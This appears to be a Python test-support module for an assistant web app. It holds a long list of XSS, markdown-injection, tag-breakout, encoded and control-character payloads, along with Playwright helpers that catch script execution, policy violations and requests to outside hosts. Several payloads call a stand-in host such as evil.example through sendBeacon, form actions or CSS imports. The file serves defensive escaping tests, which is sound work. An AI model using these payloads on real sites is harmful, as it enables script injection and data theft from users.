"""Texts that would do harm if a browser took them for more than texts, and how that is noticed.

All that they can do is one of: set `window.fired`, ask `evil.example` for something, or leave an
element or an attribute with `evil` in it.
"""

import re

from playwright.sync_api import BrowserContext, Dialog, Page, Route

from assistant.page.escaping import shown

# That which looks like markup, of one kind or another.
PAYLOADS = (
    "<img src=http://evil.example/a>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![x](http://evil.example/a)",
    "![x][1]",
    "[a](javascript:alert(1))",
    "[a](http://evil.example)",
    "[1]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example and www.evil.example",
    "someone@evil.example",
    "| a | b |",
    "`code` and ```fence```",
    "$latex$ and $$latex$$ and \\(x\\)",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "*one* _two_ **three** ~~four~~",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "back\\slash \\<b>",
    '" onclick="alert(1)',
    "</p></div><style>*{display:none}</style>",
    "${alert(1)} {{value}}",
    "<form action=http://evil.example><button>go</button></form>",
    "---",
    ":smile: <!-- comment -->",
)
_ACTIVE = (
    "<svg onload=fired=1 id=evil>",
    "<svg><script href=//evil.example/a></script></svg>",
    '<svg><use href="http://evil.example/b.svg#c"></use></svg>',
    "<svg><animate onbegin=fired=1 attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.fired=1</script>'></iframe></svg>",
    "<math href='javascript:fired=1' class=evil>evil</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src onerror=fired=1>'>",
    "${window.fired = 1}",
    "`+(window.fired = 1)+`",
    "\\${fired=1} \\` ${`${fired=1}`}",
    "{{value}} {{{value}}} {{> evil}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    '{{constructor.constructor "fired=1"}}',
    "<meta http-equiv=refresh content='0;url=http://evil.example/d'>",
    "<base href=http://evil.example/>",
    "<iframe src=http://evil.example/e></iframe>",
    "<iframe srcdoc='<img src=http://evil.example/f>'></iframe>",
    "<object data=http://evil.example/g></object><embed src=http://evil.example/h>",
    "<a href='data:text/html,<script>fired=1</script>' class=evil>evil</a>",
    "[evil](data:text/html,<script>fired=1</script>)",
    "<javascript:window.fired=1>",
    "[evil][one] and ![evil][one]",
    "[one]: http://evil.example/i 'evil'",
    "https://evil.example/j, //evil.example/k and ftp://evil.example",
    "<div style='background:url(http://evil.example/l)' class=evil>evil</div>",
    "<style>@import 'http://evil.example/m'; * { --evil: url(http://evil.example/n) }</style>",
    "<form action=http://evil.example/o><input name=evil autofocus onfocus=fired=1></form>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example>",
    "<link rel=stylesheet href=http://evil.example/q.css>",
    "<a href='#' ping=http://evil.example/r class=evil>evil</a>",
    "<video poster=http://evil.example/s><source src=x onerror=fired=1></video>",
    "<audio src=http://evil.example/t autoplay>",
    "<body onload=fired=1><details open ontoggle=fired=1 class=evil>evil</details>",
    "<img src=x onerror=\"new RTCPeerConnection({iceServers:[{urls:'stun:evil.example'}]})\">",
    "<img src=x onerror=\"navigator.sendBeacon('http://evil.example/u')\">",
    "<img srcset='http://evil.example/v 1x, http://evil.example/w 2x'>",
    "<picture><source srcset=http://evil.example/x><img alt=evil></picture>",
    "<img/src/onerror=fired=1>",
    "<ScRiPt>fired=1</sCrIpT><<script>fired=1//<</script>",
    "<template><script>fired=1</script></template>",
    "<button data-do=deleteConversation class=evil>evil</button>",
    "<a href=#conversation=evil class=evil>evil</a> [evil](#cite=evil:0-1:0)",
)
_BREAKING_OUT = (
    "</textarea><img src=x onerror=fired=1>",
    "</title><script>fired=1</script>",
    "</script><script>fired=1</script>",
    "</style><script>fired=1</script>",
    "</template></button></details><script>fired=1</script>",
    "]]><img src=x onerror=fired=1>",
    "--><img src=x onerror=fired=1><!--",
    "' onmouseover='fired=1' class='evil",
    '" autofocus onfocus="fired=1" class="evil',
    "` onmouseover=`fired=1` class=`evil",
    "x onmouseover=fired=1 class=evil",
    '"}],"evil":[{"',
    "'); window.fired = 1; ('",
    "\\u003cimg src=x onerror=fired=1\\u003e",
    "\\x3cimg src=x onerror=fired=1\\x3e",
)
_TWICE = (
    "&lt;img src=x onerror=fired=1&gt;",
    "&amp;lt;img src=x onerror=fired=1&amp;gt;",
    "&#x3C;img src=x onerror=fired=1&#x3E;",
    "&#38;#60;script&#38;#62;fired=1",
    "%3Cimg src=x onerror=fired=1%3E %253Cscript%253E",
    "&lt;b&gt;&NewLine;&Tab;&colon;&lpar;",
)
_STRANGE = (
    "\u202egnp.evil\u202c \u2066evil\u2069 \u200eevil\u200f",
    "evil\u2028evil\u2029evil",
    "evil\r\nSet-Cookie: evil=1\r\n\r\n<script>fired=1</script>",
    "evil \x1b[31mevil \x07 \x7f \x85",
    "nul \x00 evil \x00<script>fired=1</script>",
    "half \ud83d of evil \udc00",
    "evil" * 60,
    "e\u0301\u0301\u0301vil \u200b\u200d\ufeff evil",
)
ATTACKS = (*PAYLOADS, *_ACTIVE, *_BREAKING_OUT, *_TWICE, *_STRANGE)
ALL = " § ".join(ATTACKS)

# What a browser notices, from the first moment on.
_WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
# Elements that our own markup never has where texts of others are shown, and attributes in which
# texts of others have no place.
_FOREIGN = """() => {
    const places = "#chat, #card, #panel, #drawer, #index-state, #report, #notice, #editing, "
        + "#first-run, #library-view, #evaluation, #settings .wishes";
    const tags = "img, script, style, iframe, object, embed, base, meta, link, math, video, audio, "
        + "picture, source, template, foreignObject, use, animate, pre, hr, del, blockquote";
    const texts = ["aria-label", "title", "value", "placeholder", "alt"];
    const address = /^#(cite|source)=[^<>"' ]*$|^(source|conversations)\\/[^<>"' ]*$/;
    const isOurs = ({ name, value }) => texts.includes(name) || name.startsWith("data-")
        || (name === "href" && address.test(value.replace(`${location.origin}/`, "")));
    const all = [...document.querySelectorAll("html, html *")];
    const isForeign = (one) => one.closest(places) && one.matches(tags) && !one.closest(".sheet");
    const isRigged = (one) => [...one.attributes].some((attribute) => {
        const words = attribute.name + attribute.value;
        return attribute.name.startsWith("on") || (/evil|fired/i.test(words) && !isOurs(attribute));
    });
    const isProgram = (one) => one.matches("script, style")
        && /^\\W*((window|parent)\\.)?fired|@import|--evil/.test(one.textContent);
    return all.filter((one) => isForeign(one) || isRigged(one) || isProgram(one))
        .map((one) => one.outerHTML.slice(0, 200));
}"""


class Watch:
    """What pages of a context do that no text may make them do."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.dialogs: list[str] = []

    def done_by(self, page: Page) -> dict[str, object]:
        """Everything that was noticed so far, by its kind; nothing is as it should be."""
        noticed: dict[str, object] = {
            "fired": page.evaluate("window.fired ?? null"),
            "policy": page.evaluate("window.violations"),
            "foreign": page.evaluate(_FOREIGN),
            "requests": self.requests,
            "dialogs": self.dialogs,
        }
        return {kind: value for kind, value in noticed.items() if value}


def watched(context: BrowserContext, address: str) -> Watch:
    """Watch all pages of a context, which may ask this server and no other."""
    watch = Watch()

    def on_request(route: Route) -> None:
        watch.requests.append(route.request.url)
        route.abort()

    def on_dialog(dialog: Dialog) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    context.add_init_script(_WATCH)
    context.route(re.compile(rf"^(?!data:|blob:|{re.escape(address)}/)"), on_request)
    context.on("dialog", on_dialog)
    return watch


def as_shown(text: str) -> str:
    """A text as it is to be read on the page: its own words, on one line."""
    entities = re.sub(r"&#(\d+);", lambda match: chr(int(match[1])), shown(text))
    return " ".join(entities.split())


def read(text: str | None) -> str:
    """What a page shows, on one line."""
    return " ".join((text or "").split())
